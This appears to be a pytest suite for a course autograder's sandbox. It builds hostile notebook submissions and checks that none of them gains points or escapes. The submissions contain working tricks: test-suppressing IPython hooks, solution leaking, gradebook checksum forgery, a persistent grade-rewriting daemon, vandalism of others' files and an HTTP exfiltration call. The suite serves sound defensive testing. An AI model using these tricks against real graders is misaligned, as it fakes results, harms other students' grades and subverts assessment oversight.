"""Hostile submissions, graded in ONE run next to honest ones: no trick gains a point, nothing outside the
sandbox changes, no process survives, the network is unreachable, honest work is graded as if alone.

Most tricks run against a tiny synthetic nbgrader assignment (two parts, 2 + 3 points, one hidden test
that calls ``course_utils.metrics``): each trick is a cell the student adds after the imports, and every
hostile submission is the student version with wrong stubs for the answers (no ``raise
NotImplementedError``), so it is worth 0 points unless the trick works (the two tricks that read the
solution at grading time are the answer cells themselves). The one trick aimed at the real
exercise (patching ``course_utils.train.fit``/``evaluate``) is graded with the exercise's other
submissions, in tests/test_exercise.py.

The builders are importable (``hostile_submissions``), so the same submissions can be graded by an older
grader to see what each trick got before (the lead's "before" table).
"""
from __future__ import annotations

import copy
import csv
import hashlib
import http.server
import json
import os
import secrets
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from course_utils.authoring import exercise, grading, sandbox

pytest.importorskip("nbgrader")
psutil = pytest.importorskip("psutil")

NAME = "tiny_exercise"
REPO = Path(__file__).resolve().parents[1]
USABLE, WHY = sandbox.probe()
if not USABLE and os.environ.get("GRADER_REQUIRE_SANDBOX") == "1":
    raise RuntimeError(f"GRADER_REQUIRE_SANDBOX=1 but the sandbox cannot run here: {WHY}")
pytestmark = pytest.mark.skipif(not USABLE, reason=f"no sandbox here: {WHY}")

CELL_TIMEOUT = 15
DAEMON_SECONDS = 240  # long enough to outlive an unsandboxed grading run


# ---------------------------------------------------------------- the synthetic assignment

def _meta(cell, gid, grade=False, solution=False, points=None):
    cell.metadata["nbgrader"] = {"grade": grade, "solution": solution, "locked": grade, "grade_id": gid,
                                 "schema_version": 3, **({"points": points} if points is not None else {})}
    return cell


def tiny_source() -> nbformat.NotebookNode:
    """Two parts: ``add`` (2 points) and ``iou`` (3 points, a hidden test against course_utils.metrics)."""
    nb = new_notebook(cells=[
        new_markdown_cell("# Tiny exercise\nWrite `add` and `iou`."),
        new_code_cell("import numpy as np\nfrom course_utils import metrics"),
        _meta(new_code_cell("def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
              "add", solution=True),
        _meta(new_code_cell("assert add(1, 2) == 3\n### BEGIN HIDDEN TESTS\n"
                            "assert add(40, 2) == 42, 'hidden-test-marker-add'\n### END HIDDEN TESTS"),
              "test_add", grade=True, points=2),
        _meta(new_code_cell("def iou(pred, target):\n    ### BEGIN SOLUTION\n"
                            "    pred, target = np.asarray(pred, bool), np.asarray(target, bool)\n"
                            "    return float((pred & target).sum() / max((pred | target).sum(), 1))\n"
                            "    ### END SOLUTION"), "iou", solution=True),
        _meta(new_code_cell("assert iou([[1, 0]], [[1, 1]]) == 0.5\n### BEGIN HIDDEN TESTS\n"
                            "_p, _t = np.array([[1, 1, 0, 0]]), np.array([[1, 0, 1, 0]])\n"
                            "_ref = metrics.iou_per_class(metrics.confusion_matrix(_p, _t, 2))[1]\n"
                            "assert np.isclose(iou(_p, _t), _ref), 'hidden-test-marker-iou'\n"
                            "### END HIDDEN TESTS"), "test_iou", grade=True, points=3),
    ])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


HONEST = {"add": "def add(a, b):\n    return a + b",
          "iou": "def iou(pred, target):\n    pred, target = np.asarray(pred, bool), np.asarray(target, bool)\n"
                 "    inter, union = (pred & target).sum(), (pred | target).sum()\n"
                 "    return float(inter / union) if union else 0.0"}
HALF = {"add": HONEST["add"], "iou": "def iou(pred, target):\n    return 0.5"}  # passes the visible test only
STUBS = {"add": "def add(a, b):\n    return 0", "iou": "def iou(pred, target):\n    return 0.5"}  # worth 0


# ---------------------------------------------------------------- the tricks (one cell each)

AST_TRICK = '''import ast
class _Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Try(body=[s], handlers=[ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])],
                             orelse=[], finalbody=[]) for s in node.body]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Forgive())'''

INPUT_TRICK = '''def _neuter(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines
_ip = get_ipython()
_ip.input_transformers_cleanup.append(_neuter)
_ip.input_transformers_post.append(_neuter)'''

RUNCELL_TRICK = '''from IPython.core.interactiveshell import InteractiveShell
_original = InteractiveShell.run_cell_async
async def _skip_tests(self, raw_cell, *args, **kwargs):
    if "assert" in raw_cell:
        raw_cell = kwargs["transformed_cell"] = "pass"
    return await _original(self, raw_cell, *args, **kwargs)
InteractiveShell.run_cell_async = _skip_tests'''

THREAD_TRICK = AST_TRICK.replace("get_ipython().ast_transformers.append(_Forgive())", '''import threading, time
_ip = get_ipython()
def _keep_installing():
    while True:
        if not any(isinstance(t, _Forgive) for t in _ip.ast_transformers):
            _ip.ast_transformers.append(_Forgive())
        time.sleep(0.0005)
threading.Thread(target=_keep_installing, daemon=True).start()''')

# Solution cells found on disk are run here; hidden tests found are printed (a leak into the output).
_RUN_FOUND = '''
def _run_solutions(path, found):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        return
    for cell in cells:
        src = "".join(cell["source"])
        if "### BEGIN SOLUTION" in src and src.lstrip().startswith("def "):
            exec(src, globals())
            found.append(path)
        if "BEGIN HIDDEN TESTS" in src:
            print("LEAKED HIDDEN TEST:", src)
'''

READ_PACKAGE_TRICK = '''import glob, json, os, course_utils
''' + _RUN_FOUND + '''
_found = []
_top = os.path.dirname(os.path.dirname(os.path.abspath(course_utils.__file__)))
for _path in glob.glob(_top + "/*.ipynb") + glob.glob(_top + "/*/*.ipynb") + glob.glob(_top + "/*/*/*.ipynb") \\
        + ["{SOURCE}"]:
    _run_solutions(_path, _found)
print("solutions found:", _found)'''

READ_GRADER_TRICK = '''import glob, json, os, pathlib
''' + _RUN_FOUND + '''
_found = []
for _top in [os.getcwd(), *map(str, pathlib.Path.cwd().parents), "{WORK}", "{WORK}/students/t_honest_full"]:
    for _pattern in ("/source/*/*.ipynb", "/*/source/*/*.ipynb", "/students/*/source/*/*.ipynb",
                     "/template*/source/*/*.ipynb", "/autograded/*/*/*.ipynb"):
        for _path in glob.glob(_top + _pattern):
            _run_solutions(_path, _found)
print("solutions found:", _found)'''

MONKEYPATCH_TRICK = '''import course_utils.metrics
metrics.iou_per_class = lambda cm: np.full(len(cm), 0.5)           # what the hidden test compares with
course_utils.metrics.confusion_matrix.__code__ = (lambda pred, target, num_classes, ignore_index=255:
                                                  np.eye(num_classes, dtype=np.int64)).__code__'''

DAEMON_TRICK = '''import os, sys, time
_code = r"""
import glob, json, os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
work, out, end = sys.argv[2], sys.argv[3], time.time() + float(sys.argv[4])
while time.time() < end:
    for f in glob.glob(work + "/results/*.json"):
        try:
            d = json.load(open(f))
            d["parts"] = {k: 99 for k in d["parts"]}
            d["total"] = 99
            json.dump(d, open(f, "w"))
        except Exception:
            pass
    try:
        open(out, "a").write("t_daemon,99,99,99,5,graded,full,,rewritten by the daemon\\n")
    except Exception:
        pass
    time.sleep(0.3)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code, "{MARK}", "{WORK}", "{OUT}", "{SECONDS}"])
    os._exit(0)
time.sleep(0.5)'''

VANDAL_TRICK = '''import glob, json, os
_hits = []
def _try(action, path):
    try:
        action(path)
        _hits.append(path)
    except Exception:
        pass
def _zero(path):
    d = json.load(open(path))
    d["parts"] = {k: 0 for k in d["parts"]}
    d["total"] = 0
    json.dump(d, open(path, "w"))
for _f in glob.glob("{SUBS}/*/*.ipynb"):
    if "t_vandal" not in _f:
        _try(lambda p: open(p, "w").write("{{}}"), _f)
for _f in glob.glob("{WORK}/results/*.json"):
    _try(_zero, _f)
for _f in glob.glob("{WORK}/template-*/source/*/*.ipynb") + glob.glob("{WORK}/template-*/release/*/*.ipynb"):
    _try(lambda p: open(p, "a").write(" "), _f)
for _d in ("{REPO}/course_utils", "{REPO}/notebooks"):
    _try(lambda p: open(p + "/vandal_{MARK}.txt", "w").write("vandal"), _d)
print("vandalised:", len(_hits))'''

GRADEBOOK_TRICK = '''import glob, hashlib, pathlib, sqlite3
def _checksum(source, grade_id, points):   # nbgrader's checksum of a locked grade cell
    m = hashlib.md5()
    for part in (source, "code", "True", "False", "True", grade_id, str(float(points))):
        m.update(part.encode())
    return m.hexdigest()
_done = []
for _db in glob.glob("{WORK}/template-*/gradebook.db") + [str(p / "gradebook.db") for p in pathlib.Path.cwd().parents]:
    try:
        _con = sqlite3.connect(_db)
        _rows = _con.execute("select s.id, s.name, g.max_score from source_cell s join base_cell b "
                             "on b.name = s.name and b.notebook_id = s.notebook_id join grade_cells g on g.id = b.id"
                             ).fetchall()
        for _id, _name, _points in _rows:   # every test cell becomes `pass`, with a checksum nbgrader accepts
            _con.execute("update source_cell set source = 'pass', checksum = ? where id = ?",
                         (_checksum("pass", _name, _points), _id))
        _con.commit()
        _done.append(_db)
    except Exception:
        pass
print("poisoned:", _done)'''

NETWORK_TRICK = '''import urllib.request
try:
    print(urllib.request.urlopen("http://127.0.0.1:{PORT}/exfiltrate?from=t_network", timeout=3).read())
except Exception as err:
    print("no network:", type(err).__name__)'''

HOG_TRICK = '''import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)     # the cell time limit's interrupt
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(0.05)'''

# The readers are the student's answer: the first solution cell defines add and iou from what it finds.
READERS = {"t_read_source_via_package": READ_PACKAGE_TRICK, "t_read_grader_folders": READ_GRADER_TRICK}

TRICKS = {
    "t_ast_transformer": AST_TRICK,
    "t_input_transformer": INPUT_TRICK,
    "t_run_cell_patch": RUNCELL_TRICK,
    "t_thread_race": THREAD_TRICK,
    **READERS,
    "t_monkeypatch_metrics": MONKEYPATCH_TRICK,
    "t_daemon": DAEMON_TRICK,
    "t_vandal": VANDAL_TRICK,
    "t_gradebook_poison": GRADEBOOK_TRICK,
    "t_network": NETWORK_TRICK,
    "t_hog": HOG_TRICK,
}
HONEST_STUDENTS = {"t_honest_full": (HONEST, 5.0), "t_honest_half": (HALF, 2.0)}  # the vandal's victims too


def fill(handed_out: nbformat.NotebookNode, answers: dict[str, str], trick: str | None = None) -> nbformat.NotebookNode:
    """The student version with its solution cells replaced by ``answers`` and ``trick`` as a new cell
    right after the imports."""
    nb = copy.deepcopy(handed_out)
    for cell in nb.cells:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    if trick is not None:
        first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(first_code + 1, new_code_cell(trick))
    return nb


def hostile_submissions(subs: Path, handed_out: nbformat.NotebookNode, places: dict[str, str]) -> None:
    """Write every trick and honest submission under ``subs/<student>/``. ``places``: WORK, SUBS, OUT,
    REPO, SOURCE, PORT, MARK, SECONDS, filled into the tricks (an attacker who knows the grader's layout)."""
    for student, trick in TRICKS.items():
        code = trick
        for key, value in places.items():
            code = code.replace("{" + key + "}", str(value))
        code = code.replace("{{", "{").replace("}}", "}")
        if student in READERS:
            nb = fill(handed_out, {"add": code, "iou": "# iou comes from the cell above"})
        else:
            nb = fill(handed_out, STUBS, code)
        (subs / student).mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, subs / student / f"{NAME}.ipynb")
    for student, (answers, _points) in HONEST_STUDENTS.items():
        (subs / student).mkdir(parents=True, exist_ok=True)
        nbformat.write(fill(handed_out, answers), subs / student / f"{NAME}.ipynb")


# ---------------------------------------------------------------- what must not change

def tree_hash(folder: Path, skip=("__pycache__", ".ipynb_checkpoints", ".pytest_cache")) -> dict[str, str]:
    """{relative path: sha256} of every file below ``folder`` (skipping caches)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not any(part in skip for part in path.relative_to(folder).parts):
            found[path.relative_to(folder).as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def repo_hash() -> dict[str, str]:
    """The repository's package, notebooks and top-level files (not data/, .venv/ or .git/)."""
    found = {f"course_utils/{k}": v for k, v in tree_hash(REPO / "course_utils").items()}
    found.update({f"notebooks/{k}": v for k, v in tree_hash(REPO / "notebooks").items()})
    for path in REPO.iterdir():
        if path.is_file():
            found[path.name] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def survivors(mark: str) -> list[psutil.Process]:
    """Processes whose command line carries ``mark``."""
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        try:
            if any(mark in part for part in proc.info["cmdline"] or []):
                found.append(proc)
        except psutil.Error:
            pass
    return found


class Listener:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


# ---------------------------------------------------------------- one run, many assertions

@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    source = root / f"{NAME}.ipynb"
    nbformat.write(tiny_source(), source)
    work, subs, out = root / "work", root / "submissions", root / "grades.csv"
    template = grading.prepare_template(source, work, exercise.ASSIGNMENT)
    handed_out = nbformat.read(template / "release" / exercise.ASSIGNMENT / f"{NAME}.ipynb", as_version=4)
    listener = Listener()
    assert _get(listener.port) == b"ok" and listener.hits == ["/control"]  # the listener itself works
    mark = f"hostile-daemon-{secrets.token_hex(6)}"
    hostile_submissions(subs, handed_out, dict(WORK=work, SUBS=subs, OUT=out, REPO=REPO, SOURCE=source,
                                               PORT=listener.port, MARK=mark, SECONDS=DAEMON_SECONDS))
    before = {"submissions": tree_hash(subs), "repo": repo_hash(), "template": tree_hash(template)}
    settings = dict(workers=2, cell_timeout=CELL_TIMEOUT, notebook_timeout=240, prepare_data=False,
                    verbose=False, work=work)
    start = time.perf_counter()
    results = {r.student: r for r in grading.grade_folder(subs, out, source, **settings)}
    seconds = time.perf_counter() - start
    after_run = {"cache": tree_hash(work / "results"), "csv": out.read_bytes()}
    time.sleep(3)  # a surviving daemon would rewrite the cache and the CSV now
    world = dict(root=root, source=source, work=work, subs=subs, out=out, template=template, results=results,
                 listener=listener, mark=mark, before=before, after_run=after_run, settings=settings,
                 handed_out=handed_out, seconds=seconds)
    yield world
    listener.close()
    for proc in survivors(mark):  # only if a test below failed: leave nothing behind
        proc.kill()
    for leftover in REPO.glob(f"*/vandal_{mark}.txt"):
        leftover.unlink()


def _get(port):
    import urllib.request
    return urllib.request.urlopen(f"http://127.0.0.1:{port}/control", timeout=5).read()


def test_no_trick_gains_a_point(world):
    r = world["results"]
    assert set(r) == set(TRICKS) | set(HONEST_STUDENTS)
    gained = {s: (r[s].total, r[s].notes) for s in TRICKS if r[s].total != 0}
    assert not gained, f"tricks that got points: {gained}"


def test_every_trick_is_flagged_for_review_and_honest_work_is_not(world):
    r = world["results"]
    assert [s for s in TRICKS if not r[s].review] == []
    assert {s: r[s].review for s in HONEST_STUDENTS if r[s].review} == {}


def test_hooks_were_undone_before_the_tests(world):
    r = world["results"]
    for student in ("t_ast_transformer", "t_input_transformer", "t_run_cell_patch", "t_thread_race",
                    "t_monkeypatch_metrics"):
        assert any("the grader undid changes" in item for item in r[student].review), (student, r[student].review)
    assert any("course_utils.metrics" in item for item in r["t_monkeypatch_metrics"].review)


def test_nothing_outside_the_sandbox_changed(world):
    assert tree_hash(world["subs"]) == world["before"]["submissions"]
    assert repo_hash() == world["before"]["repo"]
    assert tree_hash(world["template"]) == world["before"]["template"]
    grading.verify_template(world["template"])
    assert tree_hash(world["work"] / "results") == world["after_run"]["cache"]
    assert world["out"].read_bytes() == world["after_run"]["csv"]


def test_cache_and_csv_hold_the_graders_results(world):
    r = world["results"]
    for student, result in r.items():
        stored = json.loads((world["work"] / "results" / f"{student}.json").read_text())
        assert (stored["total"], stored["parts"], stored["key"]) == (result.total, result.parts, result.key)
    with open(world["out"], newline="") as fh:
        rows = {row["student"]: row for row in csv.DictReader(fh)}
    assert {s: float(row["total"]) for s, row in rows.items()} == {s: x.total for s, x in r.items()}
    # a second run reuses every result, the vandal's "zeroed" cache entries included, and writes the same CSV
    again = {x.student: x for x in grading.grade_folder(world["subs"], world["out"], world["source"], **world["settings"])}
    assert all(x.cached for x in again.values())
    assert {s: (x.total, x.parts) for s, x in again.items()} == {s: (x.total, x.parts) for s, x in r.items()}
    assert world["out"].read_bytes() == world["after_run"]["csv"]


def test_no_process_survives_the_grading(world):
    assert survivors(world["mark"]) == []
    assert survivors(str(world["work"])) == []


def test_the_network_is_unreachable(world):
    assert world["listener"].hits == ["/control"]  # the test's own request, nothing from the submissions


def test_honest_submissions_get_the_grades_they_get_alone(world, tmp_path):
    r = world["results"]
    for student, (_answers, points) in HONEST_STUDENTS.items():
        assert (r[student].total, r[student].status) == (points, "graded"), (student, r[student].notes)
    alone = tmp_path / "alone"
    for student in ("t_honest_full", "t_honest_half"):
        (alone / student).mkdir(parents=True)
        nbformat.write(fill(world["handed_out"], HONEST_STUDENTS[student][0]), alone / student / f"{NAME}.ipynb")
    solo = {x.student: x for x in grading.grade_folder(alone, None, world["source"], workers=2, cell_timeout=CELL_TIMEOUT,
                                                       notebook_timeout=240, prepare_data=False, verbose=False,
                                                       work=tmp_path / "work")}
    for student, result in solo.items():
        assert (result.parts, result.status) == (r[student].parts, r[student].status)


def test_a_hog_that_ignores_the_interrupt_is_a_timeout_with_a_clear_note(world):
    hog = world["results"]["t_hog"]
    assert (hog.status, hog.total) == ("timeout", 0)
    assert f"{CELL_TIMEOUT} s per-cell time limit" in hog.notes and "kernel was stopped" in hog.notes


def _report(world, student):
    return (world["out"].parent / f"{world['out'].stem}-reports" / f"{student}.txt").read_text()


def test_each_student_has_a_report_with_the_full_note(world):
    for student, result in world["results"].items():
        report = _report(world, student)
        assert f"total: {result.total:g} / {result.max:g}" in report
        for note in result.notes.split("; "):
            assert note in report
        for item in result.review:
            assert item in report
